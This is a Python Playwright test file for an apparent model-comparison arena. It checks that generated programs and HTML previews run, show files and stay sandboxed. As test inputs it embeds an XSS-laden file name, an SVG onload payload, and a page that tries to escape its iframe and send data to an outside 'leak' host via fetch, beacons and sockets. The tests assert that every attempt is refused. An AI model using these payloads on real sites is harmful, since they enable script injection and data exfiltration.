"""A run in a browser: languages, files, and pages that stay in their frame."""

from __future__ import annotations

import re
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import BrowserContext, FrameLocator, Page, expect
from served import Served
from steps import battle, code_of, vote, write_code

from runners.scripted import Script, ScriptedEndpoint

Endpoints = dict[str, ScriptedEndpoint]
Contexts = Callable[..., BrowserContext]

CSV = "\"><img src=x onerror='window.pwned=1'>.csv"
PROGRAM = f"""```python
import struct, zlib

def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

def png(path, width, height):
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = zlib.compress((b"\\0" + bytes(range(200)) * 9)[: width + 1] * height)
    body = chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    open(path, "wb").write(b"\\x89PNG\\r\\n\\x1a\\n" + body)

png("figure-1.png", 600, 40)
open({CSV!r}, "w").write("a,b\\n1,2\\n")
open("figure-2.png", "w").write("<svg xmlns='http://www.w3.org/2000/svg' onload='window.pwned=2'/>")
print("two ${{1 + 1}}")
```"""
PAGE = """A counter.

```html
<!DOCTYPE html>
<html><body><h1 id="title">Counter</h1><button id="more">more</button><b id="n">0</b></body></html>
```

```css
#title { color: rgb(1, 2, 3) }
```

```js
let n = 0;
document.getElementById("more").onclick = () => { document.getElementById("n").textContent = ++n; };
```
"""
# Each attempt leaves a line: what it got, or that it was refused.
ATTEMPTS = """```html
<ul id="log"></ul>
<img src="OUTSIDE/leak.png"><img src="/health">
<link rel="stylesheet" href="OUTSIDE/leak.css">
<iframe src="/status" id="inner"></iframe><iframe src="OUTSIDE/"></iframe>
<form id="form" action="/leak" method="post" target="_top"><input name="a" value="1"></form>
<a id="save" href="data:text/plain,x" download="x.exe">save</a>
<a id="up" href="/status" target="_top">up</a>
<script>
const say = (name, words) => {
  const line = document.createElement("li");
  line.textContent = name + ": " + words;
  document.getElementById("log").append(line);
};
const tries = {
  parent: () => parent.document.title,
  frame: () => frameElement.id,
  top: () => { top.location = "/status"; return "went"; },
  storage: () => { localStorage.setItem("a", "1"); return "stored"; },
  session: () => { sessionStorage.setItem("a", "1"); return "stored"; },
  cookie: () => { document.cookie = "a=1"; return "cookie " + document.cookie; },
  window: () => window.open("/status") ? "opened" : Promise.reject("null"),
  fetch: () => fetch("/health").then((answer) => answer.text()),
  outside: () => fetch("OUTSIDE/leak", { mode: "no-cors" }).then(() => "sent"),
  socket: () => new Promise((done, failed) => {
    const socket = new WebSocket("OUTSIDE/socket");
    socket.onopen = () => done("open"); socket.onerror = () => failed("error");
  }),
  worker: () => new Promise((done, failed) => {
    const worker = new Worker("data:text/javascript,postMessage(1)");
    worker.onmessage = () => done("runs"); worker.onerror = () => failed("error");
  }),
  code: () => new Function("return 'compiled'")(),
  calls: () => new RTCPeerConnection() && "calls",
  database: () => indexedDB.open("a") && "opened",
};
navigator.sendBeacon("/leak", "x");
navigator.sendBeacon("OUTSIDE/leak", "x");
(async () => {
  for (const [name, attempt] of Object.entries(tries)) {
    try { say(name, "GOT " + await attempt()); } catch (error) { say(name, "refused"); }
  }
  parent.postMessage({ type: "reload" }, "*");
  parent.postMessage("supports-zerogpu-headers", "*");
  for (const id of ["form", "save", "up"]) {
    const element = document.getElementById(id);
    id === "form" ? element.submit() : element.click();
  }
  say("end", "reached");
})();
</script>
```"""
NAMES = re.findall(r"^  (\w+): \(\)", ATTEMPTS, re.MULTILINE)


class _Recording(BaseHTTPRequestHandler):
    """Remembers every request, and allows everybody everything."""

    def do_GET(self) -> None:
        self.server.asked.append(self.path)  # type: ignore[attr-defined]
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    do_POST = do_GET  # noqa: N815 - the name that the base class looks for

    def log_message(self, *args: object) -> None:
        """Say nothing."""


@pytest.fixture
def outside() -> Iterator[ThreadingHTTPServer]:
    """Another server, as a page's author would have one to send things to."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Recording)
    server.asked = []  # type: ignore[attr-defined]
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


def script_all(endpoints: Endpoints, text: str) -> None:
    for endpoint in endpoints.values():
        endpoint.script = Script.of(text, rate=200)


def run(page: Page, letter: str = "a") -> None:
    page.click(f"#slot-{letter}-run")


def preview(page: Page, letter: str = "a") -> FrameLocator:
    run(page, letter)
    expect(page.locator(f"#slot-{letter}-result iframe")).to_be_visible()
    return page.frame_locator(f"#slot-{letter}-result iframe")


def opened(app: Served, new_context: Contexts, **options: object) -> Page:
    page = new_context(**options).new_page()
    page.goto(app.url)
    page.wait_for_selector("#arena-prompt textarea")
    return page


# -- files --------------------------------------------------------------------------


def test_images_are_shown_and_files_saved_whatever_their_names(
    page: Page, endpoints: Endpoints, require: Callable[[str], None], new_context: Contexts
) -> None:
    require("docker")
    script_all(endpoints, PROGRAM)
    battle(page)
    expect(page.locator("#slot-a-language")).to_have_text("Python")
    run(page)
    images = page.locator("#slot-a-result img")
    expect(images).to_have_count(1, timeout=30_000)  # the second is no image, but for its name
    expect(page.locator("#slot-a-result pre")).to_have_text("two ${1 + 1}")
    assert images.evaluate("image => image.decode().then(() => image.naturalWidth)") == 600
    expect(page.locator("#slot-a-result figcaption")).to_contain_text("figure-1.png")
    link = page.locator("#slot-a-result li a", has_text=CSV)
    with page.expect_download() as saving:
        link.click()
    assert saving.value.suggested_filename.endswith(".csv")
    assert saving.value.path().read_text() == "a,b\n1,2\n"
    assert page.evaluate("window.pwned") is None
    assert not re.search(r"\d\s*(s|ms|seconds)\b", page.inner_text("#slot-a-result"))
    stranger = new_context().new_page()
    answer = stranger.goto(page.url + link.get_attribute("href"))  # type: ignore[operator]
    assert answer is not None
    assert answer.status == 404


def test_files_are_there_after_a_reload_and_gone_with_the_next_run(
    page: Page, endpoints: Endpoints, require: Callable[[str], None]
) -> None:
    require("docker")
    script_all(endpoints, PROGRAM)
    battle(page)
    run(page)
    image = page.locator("#slot-a-result img")
    expect(image).to_be_visible(timeout=30_000)
    page.reload()
    expect(image).to_be_visible()
    assert image.evaluate("image => image.decode().then(() => image.naturalWidth)") == 600
    write_code(page, "a", code_of(page, "a").replace("600", "300"))
    run(page)
    page.wait_for_function(
        "document.querySelector('#slot-a-result img')?.naturalWidth === 300", timeout=30_000
    )
    write_code(page, "a", "print('nothing left')")
    run(page)
    expect(page.locator("#slot-a-result")).to_contain_text("nothing left", timeout=30_000)
    expect(image).to_have_count(0)


# -- languages ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("locale", "words"), [("en-US", "cannot be run here"), ("zh-CN", "不能在这里运行")]
)
def test_a_language_that_does_not_run_is_said_and_offers_no_button(
    app: Served, endpoints: Endpoints, new_context: Contexts, locale: str, words: str
) -> None:
    script_all(endpoints, "```kotlin\nfun main() = println(1)\n```")
    page = opened(app, new_context, locale=locale)
    battle(page)
    expect(page.locator("#slot-a-language")).to_contain_text(f"Kotlin {words}".replace("  ", " "))
    expect(page.locator("#slot-a-run, #slot-a-stdin")).to_have_count(0)
    assert "fun main()" in code_of(page, "a")


# -- pages --------------------------------------------------------------------------


@pytest.mark.parametrize(("locale", "words"), [("en-US", "Preview"), ("zh-CN", "预览")])
def test_a_page_is_put_together_and_works(
    app: Served, endpoints: Endpoints, new_context: Contexts, locale: str, words: str
) -> None:
    script_all(endpoints, PAGE)
    page = opened(app, new_context, locale=locale)
    battle(page)
    expect(page.locator("#slot-a-run")).to_have_text(words)
    expect(page.locator("#slot-a-stdin")).to_have_count(0)
    frame = preview(page)
    # Not by the mouse: where a frame is drawn, the browser tells its input router late.
    for _ in range(2):
        frame.locator("#more").dispatch_event("click")
    expect(frame.locator("#n")).to_have_text("2")
    colour = frame.locator("#title").evaluate("title => getComputedStyle(title).color")
    assert colour == "rgb(1, 2, 3)"
    # An edited page takes the place of the one before; a vote leaves it where it is.
    write_code(page, "a", "<h2>edited</h2>")
    run(page)
    expect(frame.locator("h2")).to_have_text("edited")
    vote(page)
    expect(frame.locator("h2")).to_have_text("edited")


def test_a_page_reaches_nothing_outside_its_frame(
    page: Page, endpoints: Endpoints, outside: ThreadingHTTPServer
) -> None:
    script_all(endpoints, ATTEMPTS.replace("OUTSIDE", f"http://127.0.0.1:{outside.server_port}"))
    battle(page)
    address, pages, cookies = page.url, len(page.context.pages), page.context.cookies()
    downloads: list[object] = []
    answered: list[str] = []
    page.on("download", lambda one: downloads.append(one.url))
    page.on("response", lambda response: answered.append(response.url))
    page.evaluate("window.mark = 'same page'")
    frame = preview(page)
    expect(frame.locator("#log")).to_contain_text("end: reached", timeout=20_000)
    lines = dict(line.split(": ", 1) for line in frame.locator("#log li").all_inner_texts())
    assert lines.pop("end") == "reached"
    assert lines == dict.fromkeys(NAMES, "refused")
    assert len(NAMES) == 14
    page.wait_for_timeout(500)
    assert page.url == address
    assert page.evaluate("window.mark") == "same page"
    assert page.evaluate("localStorage.getItem('a')") is None
    assert page.context.cookies() == cookies
    assert len(page.context.pages) == pages
    assert downloads == outside.asked == []  # type: ignore[attr-defined]
    assert [url for url in answered if re.search("health|status|leak", url)] == []
    vote(page)


@pytest.mark.parametrize("target", ["/health", "http://192.0.2.1/leak", "data:text/html,left"])
def test_a_page_cannot_leave_for_another_address(
    page: Page, endpoints: Endpoints, target: str
) -> None:
    script_all(endpoints, f"```html\n<p>before</p><script>location = '{target}'</script>\n```")
    asked: list[str] = []
    battle(page)
    page.on("requestfinished", lambda request: asked.append(request.url))
    preview(page)
    page.wait_for_timeout(1500)
    assert [url for url in asked if "health" in url or "192.0.2.1" in url] == []
    texts = [frame.evaluate("document.body?.innerText ?? ''") for frame in page.frames[1:]]
    assert not any("contestants" in text or text == "left" for text in texts)


def test_a_page_that_never_rests_leaves_the_arena_usable(page: Page, endpoints: Endpoints) -> None:
    script_all(endpoints, "```html\n<p>busy</p><script>while (true) {}</script>\n```")
    battle(page)
    preview(page)
    page.wait_for_timeout(500)
    vote(page)
    page.click("#arena-new")
    expect(page.locator("#arena-hero")).to_be_visible()


# -- look ---------------------------------------------------------------------------


@pytest.mark.parametrize("text", [PROGRAM, PAGE], ids=["files", "preview"])
def test_results_are_no_wider_than_a_phone(
    app: Served,
    endpoints: Endpoints,
    new_context: Contexts,
    require: Callable[[str], None],
    text: str,
) -> None:
    require("docker")
    script_all(endpoints, text)
    page = opened(app, new_context, width=390)
    battle(page)
    run(page)
    shown = page.locator("#slot-a-result img, #slot-a-result iframe")
    expect(shown).to_be_visible(timeout=30_000)
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    box = shown.bounding_box()
    assert box is not None
    assert box["x"] >= 0
    assert box["x"] + box["width"] <= 390
